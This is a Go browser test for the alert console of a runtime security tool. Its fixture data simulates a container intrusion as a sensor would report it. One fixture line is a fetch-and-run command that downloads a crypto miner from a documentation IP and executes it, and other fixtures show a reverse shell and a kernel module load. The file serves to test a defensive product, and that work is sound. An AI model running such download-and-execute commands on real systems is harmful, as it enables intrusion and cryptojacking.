package console

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/server/api"
	"github.com/vigil-sec/vigil/internal/server/store"
	"github.com/vigil-sec/vigil/internal/ship"
)

// The browser tests drive Debian's Chromium, headless, against a real
// server (REST API and console over a SQLite store) on 127.0.0.1. They
// keep a screenshot of every page under artifacts/console/ (or
// $VIGIL_ARTIFACTS/console) and check each shows real data first.

// chromium is the browser the tests drive (Debian's package).
const chromium = "/usr/bin/chromium"

// browserSite is a served console with data, and the tokens to sign in.
type browserSite struct {
	url           string
	st            *store.Store
	clusterID     string
	admin, reader string
	miner         string // the crypto-miner alert's id
}

func newBrowserSite(t *testing.T) *browserSite {
	t.Helper()
	st, err := store.Open(context.Background(), "sqlite://"+filepath.Join(t.TempDir(), "vigil.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ctx := context.Background()
	cl, _, err := st.CreateCluster(ctx, "prod")
	if err != nil {
		t.Fatal(err)
	}
	site := &browserSite{st: st, clusterID: cl.ID}
	if site.admin, err = st.CreateToken(ctx, "alice", store.RoleAdmin); err != nil {
		t.Fatal(err)
	}
	if site.reader, err = st.CreateToken(ctx, "rita", store.RoleReader); err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	alerts := attackStory(now.Add(-10 * time.Minute))
	site.miner = alerts[2].ID
	b := &ship.Batch{BatchID: "b-story", Node: "node-1", Alerts: alerts,
		Health: []ship.Health{
			{Node: "node-1", Component: "sensor", State: "installed", At: now, Health: &event.Health{Mode: "ebpf", EventsTotal: 91234, DroppedTotal: 17}},
			{Node: "node-2", Component: "sensor", State: "failed", Reason: "BTF not found at /sys/kernel/btf/vmlinux", At: now},
		},
		Inventory: []ship.InventoryItem{
			{Kind: ship.KindNode, Name: "node-1", Attrs: map[string]string{"kernel": "6.12.0"}},
			{Kind: ship.KindNode, Name: "node-2"},
			{Kind: ship.KindNode, Name: "node-3"},
			{Kind: ship.KindWorkload, Name: "Deployment/shop/web", Namespace: "shop"},
			{Kind: ship.KindImage, Name: "registry.example.com/shop/web:1.4"},
		},
		Findings: []ship.Finding{
			{ID: "f-web", Check: "no-privileged", Resource: "Deployment/shop/web", Namespace: "shop", Status: ship.Unhealthy,
				Details: map[string]any{"mode": "audit", "violations": []string{"container web: securityContext.privileged is true"}}},
			{ID: "f-api", Check: "no-privileged", Resource: "Deployment/shop/api", Namespace: "shop", Status: ship.Healthy,
				Details: map[string]any{"mode": "audit"}},
		}}
	if _, err := st.Ingest(ctx, cl.ID, b, now); err != nil {
		t.Fatal(err)
	}
	a := api.New(api.Config{Store: st})
	ui, err := New(Config{Store: st})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/api/", a.Handler())
	mux.Handle("/", ui.Handler())
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	site.url = srv.URL
	return site
}

// attackStory is a web-shell intrusion in shop/web as the sensor reports
// it (web shell -> download -> drifted miner), plus a host alert and
// some noise from another namespace.
func attackStory(t0 time.Time) []event.Alert {
	web := func(id, rule, title string, sev event.Severity, at time.Time, p *event.Process) event.Alert {
		return event.Alert{ID: id, Rule: rule, Title: title, Severity: sev, Status: event.StatusActive,
			Tactic: "Execution", Techniques: []string{"T1059.004"}, FirstSeen: at, LastSeen: at, Count: 1, Source: "runtime",
			Node: "node-1", Namespace: "shop", Pod: "web-7d9f4", Container: "web", ContainerID: "0f3c9a7e11aa",
			Image: "registry.example.com/shop/web:1.4", Workload: "Deployment/shop/web", Labels: map[string]string{"app": "web"},
			Process:     p,
			Description: "A process in the container behaved like " + strings.ToLower(title) + ".",
			Remediation: "Isolate the pod, rotate the credentials it could read and rebuild the image from a trusted source."}
	}
	shim := event.Lineage{Pid: 4100, Exe: "/usr/bin/containerd-shim-runc-v2"}
	php := event.Lineage{Pid: 4200, Exe: "/usr/sbin/php-fpm", Args: []string{"php-fpm: pool www"}}
	sh := event.Lineage{Pid: 4300, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl -so /tmp/xmrig http://203.0.113.9/x; chmod +x /tmp/xmrig; /tmp/xmrig"}}
	alerts := []event.Alert{
		web("01STORY00000000000000000001", "runtime.web-shell", "Web server spawned a shell", event.High, t0,
			&event.Process{Pid: 4300, Ppid: 4200, UID: 33, GID: 33, EUID: 33, Exe: "/bin/sh", Args: sh.Args, Cwd: "/var/www",
				Parent: &php, Ancestry: []event.Lineage{php, shim}}),
		web("01STORY00000000000000000002", "runtime.download-and-execute", "File downloaded then executed", event.Medium, t0.Add(time.Minute),
			&event.Process{Pid: 4310, Ppid: 4300, UID: 33, GID: 33, EUID: 33, Exe: "/usr/bin/curl", Args: []string{"curl", "-so", "/tmp/xmrig", "http://203.0.113.9/x"},
				Parent: &sh, Ancestry: []event.Lineage{sh, php, shim}}),
		web("01STORY00000000000000000003", "runtime.crypto-miner", "Crypto miner executed", event.High, t0.Add(2*time.Minute),
			&event.Process{Pid: 4321, Ppid: 4300, UID: 33, GID: 33, EUID: 33, Exe: "/tmp/xmrig", Drift: true, UpperLayer: true,
				Args: []string{"/tmp/xmrig", "-o", "pool.example.net:3333", "--donate-level", "1"}, Cwd: "/tmp",
				Parent: &sh, Ancestry: []event.Lineage{sh, php, shim}}),
		{ID: "01STORY00000000000000000004", Rule: "runtime.kernel-module", Title: "Kernel module loaded", Severity: event.Low,
			Status: event.StatusActive, FirstSeen: t0, LastSeen: t0.Add(3 * time.Minute), Count: 3, Source: "runtime", Node: "node-2",
			Process: &event.Process{Pid: 900, Exe: "/usr/sbin/insmod", Args: []string{"insmod", "/root/rk.ko"}}},
	}
	alerts[2].Evidence = map[string]any{"process.exe": "/tmp/xmrig", "process.drift": true, "network.dst": "203.0.113.50:3333"}
	for i := range 30 {
		at := t0.Add(time.Duration(i) * time.Second)
		alerts = append(alerts, event.Alert{ID: "01NOISE" + strings.Repeat("0", 18) + string(rune('A'+i/10)) + string(rune('0'+i%10)),
			Rule: "runtime.package-manager", Title: "Package manager ran in a container", Severity: event.Informational,
			Status: event.StatusActive, FirstSeen: at, LastSeen: at, Count: 1, Source: "runtime", Node: "node-1",
			Namespace: "batch", Pod: "etl-5c8d", ContainerID: "77aa00bb", Workload: "CronJob/batch/etl", Image: "python:3.12",
			Process: &event.Process{Pid: 5000 + uint32(i), Exe: "/usr/bin/apt-get", Args: []string{"apt-get", "install", "-y", "curl"}}})
	}
	return alerts
}

// browser starts a headless Chromium for the test; it fails (never
// skips) when Chromium is missing.
func browser(t *testing.T) context.Context {
	t.Helper()
	if _, err := exec.LookPath(chromium); err != nil {
		t.Fatalf("%s is missing (apt-get install chromium): the browser tests need it", chromium)
	}
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(chromium),
		chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-quic", true), chromedp.Flag("disable-dev-shm-usage", true),
		chromedp.WindowSize(1400, 1000),
	}
	// Chromium may still write its profile while it exits: the directory
	// is removed after the browser is gone, not by t.TempDir.
	profile, err := os.MkdirTemp("", "vigil-chromium-")
	if err != nil {
		t.Fatal(err)
	}
	opts = append(opts, chromedp.UserDataDir(profile))
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelCtx := chromedp.NewContext(actx)
	ctx, cancelTimeout := context.WithTimeout(ctx, 3*time.Minute)
	t.Cleanup(func() { cancelTimeout(); cancelCtx(); cancelAlloc(); os.RemoveAll(profile) })
	if err := chromedp.Run(ctx); err != nil {
		t.Fatalf("start %s: %v", chromium, err)
	}
	return ctx
}

// artifacts is where screenshots go.
func artifacts(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("VIGIL_ARTIFACTS")
	if dir == "" {
		dir = filepath.Join("..", "..", "artifacts")
	}
	dir = filepath.Join(dir, "console")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// run runs browser actions, failing the test with what was being done.
func run(t *testing.T, ctx context.Context, what string, actions ...chromedp.Action) {
	t.Helper()
	if err := chromedp.Run(ctx, actions...); err != nil {
		var loc string
		_ = chromedp.Run(ctx, chromedp.Location(&loc))
		t.Fatalf("%s (at %s): %v", what, loc, err)
	}
}

// text reads the text of the first element sel matches.
func text(t *testing.T, ctx context.Context, sel string) string {
	t.Helper()
	var s string
	run(t, ctx, "read "+sel, chromedp.Text(sel, &s, chromedp.ByQuery))
	return strings.TrimSpace(s)
}

// exists reports whether sel matches an element on the current page.
func exists(t *testing.T, ctx context.Context, sel string) bool {
	t.Helper()
	var n int
	run(t, ctx, "count "+sel, chromedp.Evaluate(`document.querySelectorAll(`+jsString(sel)+`).length`, &n))
	return n > 0
}

// clickAndLoad clicks sel, which loads a new page, and waits until the
// new page has replaced the current one and shows ready.
func clickAndLoad(sel, ready string) chromedp.Action {
	return chromedp.Tasks{
		chromedp.Evaluate(`document.body.appendChild(Object.assign(document.createElement("i"), {id: "old-page"})) && true`, nil),
		chromedp.Click(sel, chromedp.ByQuery),
		chromedp.WaitNotPresent("#old-page", chromedp.ByQuery),
		chromedp.WaitVisible(ready, chromedp.ByQuery),
	}
}

func jsString(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'"
}

// screenshot keeps the current page as name.png after checking it shows
// want (real data, not an empty shell).
func screenshot(t *testing.T, ctx context.Context, name string, want ...string) {
	t.Helper()
	var body string
	run(t, ctx, "read the page", chromedp.Text("main", &body, chromedp.ByQuery))
	for _, w := range want {
		if !strings.Contains(body, w) {
			t.Fatalf("%s: the page does not show %q:\n%s", name, w, body)
		}
	}
	var png []byte
	run(t, ctx, "screenshot "+name, chromedp.FullScreenshot(&png, 100))
	if err := os.WriteFile(filepath.Join(artifacts(t), name+".png"), png, 0o644); err != nil {
		t.Fatal(err)
	}
}

func signIn(t *testing.T, ctx context.Context, site *browserSite, token string) {
	t.Helper()
	run(t, ctx, "sign in",
		chromedp.Navigate(site.url+"/alerts"),
		chromedp.WaitVisible("#token", chromedp.ByQuery),
		chromedp.SendKeys("#token", token, chromedp.ByQuery),
		clickAndLoad("#sign-in", "#alert-table"),
	)
}

func signOut(t *testing.T, ctx context.Context) {
	t.Helper()
	run(t, ctx, "sign out", clickAndLoad(".who button", "#token"))
}

// TestBrowserReaderAndAdmin walks the console as an analyst does: a
// reader lists, filters and opens an alert and finds no dismiss control;
// an admin dismisses it, sees it leave the active list and who dismissed
// it. A new alert appears in the open list within seconds.
func TestBrowserReaderAndAdmin(t *testing.T) {
	site := newBrowserSite(t)
	ctx := browser(t)

	// A reader: list, filter, open.
	signIn(t, ctx, site, site.reader)
	if got := strings.ToLower(text(t, ctx, "#user")); !strings.Contains(got, "rita") || !strings.Contains(got, "reader") {
		t.Fatalf("signed in as %q", got)
	}
	screenshot(t, ctx, "01-alerts", "Crypto miner executed", "Web server spawned a shell", "prod / shop / web-7d9f4", "Package manager ran")
	if got := text(t, ctx, `#counts a[data-severity="high"] b`); got != "2" {
		t.Fatalf("high count = %q, want 2", got)
	}
	run(t, ctx, "filter high in shop",
		chromedp.Click(`input[name=severity][value=high]`, chromedp.ByQuery),
		chromedp.SendKeys("#f-namespace", "shop", chromedp.ByQuery),
		clickAndLoad("#apply", "#alert-table"),
	)
	var rows []string
	run(t, ctx, "read rows", chromedp.Evaluate(`[...document.querySelectorAll('#alert-table tbody tr')].map(r => r.innerText)`, &rows))
	if len(rows) != 2 {
		t.Fatalf("high alerts in shop: %d rows, want 2: %q", len(rows), rows)
	}
	for _, r := range rows {
		if !strings.Contains(strings.ToLower(r), "high") || !strings.Contains(r, "shop") {
			t.Fatalf("row %q is not a high alert in shop", r)
		}
	}
	screenshot(t, ctx, "02-alerts-filtered", "Crypto miner executed", "Web server spawned a shell")
	if exists(t, ctx, `tr[data-alert="01STORY00000000000000000004"]`) {
		t.Fatal("the filter kept the low node alert")
	}

	run(t, ctx, "open the miner alert",
		clickAndLoad(`tr[data-alert="`+site.miner+`"] a`, "#alert-title"))
	if got := text(t, ctx, "#proc-exe"); got != "/tmp/xmrig" {
		t.Fatalf("process path %q", got)
	}
	if got := text(t, ctx, "#proc-cmdline"); got != "/tmp/xmrig -o pool.example.net:3333 --donate-level 1" {
		t.Fatalf("command line %q", got)
	}
	if got := text(t, ctx, "#proc-parent"); got != "/bin/sh" {
		t.Fatalf("parent %q", got)
	}
	tree := text(t, ctx, "#process-tree")
	for _, p := range []string{"/usr/bin/containerd-shim-runc-v2", "/usr/sbin/php-fpm", "/bin/sh", "/tmp/xmrig"} {
		if !strings.Contains(tree, p) {
			t.Fatalf("process tree lacks %s:\n%s", p, tree)
		}
	}
	if exists(t, ctx, "#dismiss") || exists(t, ctx, "#actions") {
		t.Fatal("a reader is offered the dismiss control")
	}
	screenshot(t, ctx, "03-alert-reader", "Crypto miner executed", "Deployment/shop/web", "registry.example.com/shop/web:1.4",
		"Execution", "T1059.004", "Isolate the pod", "203.0.113.50:3333", "Incident")
	signOut(t, ctx)

	// An admin: dismiss with a reason.
	signIn(t, ctx, site, site.admin)
	run(t, ctx, "dismiss the miner alert",
		chromedp.Navigate(site.url+"/alerts/"+site.miner),
		chromedp.WaitVisible("#dismiss", chromedp.ByQuery),
		chromedp.SendKeys("#dismiss-reason", "load test of the pool proxy", chromedp.ByQuery),
		clickAndLoad("#dismiss", "#flash"))
	if got := text(t, ctx, "#alert-status"); got != "dismissed" {
		t.Fatalf("status after dismiss: %q", got)
	}
	if got := text(t, ctx, "#status-by"); !strings.Contains(got, "alice") || !strings.Contains(got, "load test of the pool proxy") {
		t.Fatalf("dismissed-by line %q", got)
	}
	screenshot(t, ctx, "04-alert-dismissed", "dismissed", "alice", "History")
	run(t, ctx, "back to the active alerts", chromedp.Navigate(site.url+"/alerts"), chromedp.WaitVisible("#alert-table", chromedp.ByQuery))
	if exists(t, ctx, `tr[data-alert="`+site.miner+`"]`) {
		t.Fatal("the dismissed alert is still in the active list")
	}
	run(t, ctx, "dismissed alerts", chromedp.Navigate(site.url+"/alerts?status=dismissed"), chromedp.WaitVisible("#alert-table", chromedp.ByQuery))
	if !exists(t, ctx, `tr[data-alert="`+site.miner+`"]`) {
		t.Fatal("the dismissed alert is not in the dismissed list")
	}

	// A new alert shows up in the open list by itself.
	run(t, ctx, "open the list", chromedp.Navigate(site.url+"/alerts"), chromedp.WaitVisible("#alert-table", chromedp.ByQuery))
	now := time.Now()
	fresh := event.Alert{ID: "01FRESH0000000000000000001", Rule: "runtime.reverse-shell", Title: "Reverse shell connected out",
		Severity: event.High, Status: event.StatusActive, FirstSeen: now, LastSeen: now, Count: 1, Node: "node-1",
		Namespace: "shop", Pod: "web-7d9f4", ContainerID: "0f3c9a7e11aa", Workload: "Deployment/shop/web",
		Process: &event.Process{Pid: 4400, Exe: "/bin/bash", Args: []string{"bash", "-i"}}}
	if _, err := site.st.Ingest(context.Background(), site.clusterID, &ship.Batch{BatchID: "b-fresh", Alerts: []event.Alert{fresh}}, now); err != nil {
		t.Fatal(err)
	}
	wctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	if err := chromedp.Run(wctx, chromedp.WaitVisible(`tr[data-alert="01FRESH0000000000000000001"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("the new alert did not appear in the open list within 15 s: %v", err)
	}

	// Every other page, with its data.
	for _, p := range []struct {
		path, wait, name string
		want             []string
	}{
		{"/incidents", "#incident-table", "05-incidents", []string{"Web server spawned a shell on container web of pod shop/web-7d9f4", "prod"}},
		{"/recommendations", "main", "07-recommendations", []string{"Recommendations"}},
		{"/recommendations/no-privileged", "#finding-table", "07-recommendation", []string{"Deployment/shop/web", "securityContext.privileged is true", "1 unhealthy, 1 healthy"}},
		{"/inventory", "#inventory-table", "08-inventory", []string{"node-3", "Deployment/shop/web", "registry.example.com/shop/web:1.4", "kernel=6.12.0"}},
		{"/clusters", ".cluster", "09-clusters", []string{"prod", "connected", "installed", "failed", "BTF not found", "without", "dropped 17 events"}},
	} {
		run(t, ctx, "open "+p.path, chromedp.Navigate(site.url+p.path), chromedp.WaitVisible(p.wait, chromedp.ByQuery))
		screenshot(t, ctx, p.name, p.want...)
	}
	run(t, ctx, "open the incident", chromedp.Navigate(site.url+"/incidents"), chromedp.WaitVisible("#incident-table", chromedp.ByQuery),
		clickAndLoad("#incident-table tbody a", "#timeline"))
	screenshot(t, ctx, "06-incident", "Web server spawned a shell", "File downloaded then executed", "Crypto miner executed")
	run(t, ctx, "inventory of nodes", chromedp.Navigate(site.url+"/inventory?kind=node"), chromedp.WaitVisible("#inventory-table", chromedp.ByQuery))
	if exists(t, ctx, `#inventory-table td:nth-child(1):not(:empty)`) && strings.Contains(text(t, ctx, "#inventory-table tbody"), "workload") {
		t.Fatal("the node filter shows workloads")
	}
}
